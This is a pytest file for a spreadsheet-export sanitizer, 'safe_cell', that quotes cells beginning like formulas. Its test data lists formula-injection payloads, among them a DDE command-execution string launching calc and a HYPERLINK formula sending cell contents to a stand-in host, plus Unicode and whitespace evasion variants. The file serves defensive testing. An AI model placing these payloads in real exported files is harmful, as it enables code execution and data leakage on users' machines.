"""What a spreadsheet would run, and what it must still be able to count."""

from __future__ import annotations

import csv
import io

import pytest

from app.web.spreadsheet_safe import safe_cell

RUN = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.example/?x="&A1,"ici")',
    "+1+1",
    "+SUM(A1:A2)",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)",
    "@import",
    "|calc",
    "%0A",
    "\t=1+1",
    "\tpetit",
    "\rgrand",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(1)",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121+1",
    "+33 (0)6",
    "-1 = -1",
    "- 5",
]
SHOWN = [
    "",
    " ",
    "Subvention = 12",
    "école",
    "12",
    "-12",
    "+3",
    "-12,5",
    "-12.5",
    "+1e9",
    "-1 234 567,89",
    "-1\u202f234,5",
    "-5 %",
    "+3%",
    "12/03/2024",
    "a@b.fr",
    "'=1+1",
    "https://a.example/?x=1",
    "\u00ab @ \u00bb",
]


@pytest.mark.parametrize("text", RUN)
def test_a_cell_that_begins_like_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", SHOWN)
def test_a_cell_that_runs_nothing_is_left_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", RUN + SHOWN)
def test_a_safe_cell_stays_safe_and_survives_a_csv_writer(text):
    once = safe_cell(text)
    assert safe_cell(once) == once
    sheet = io.StringIO(newline="")
    csv.writer(sheet).writerow([once])
    assert next(csv.reader(io.StringIO(sheet.getvalue(), newline="")), [""])[0] == once
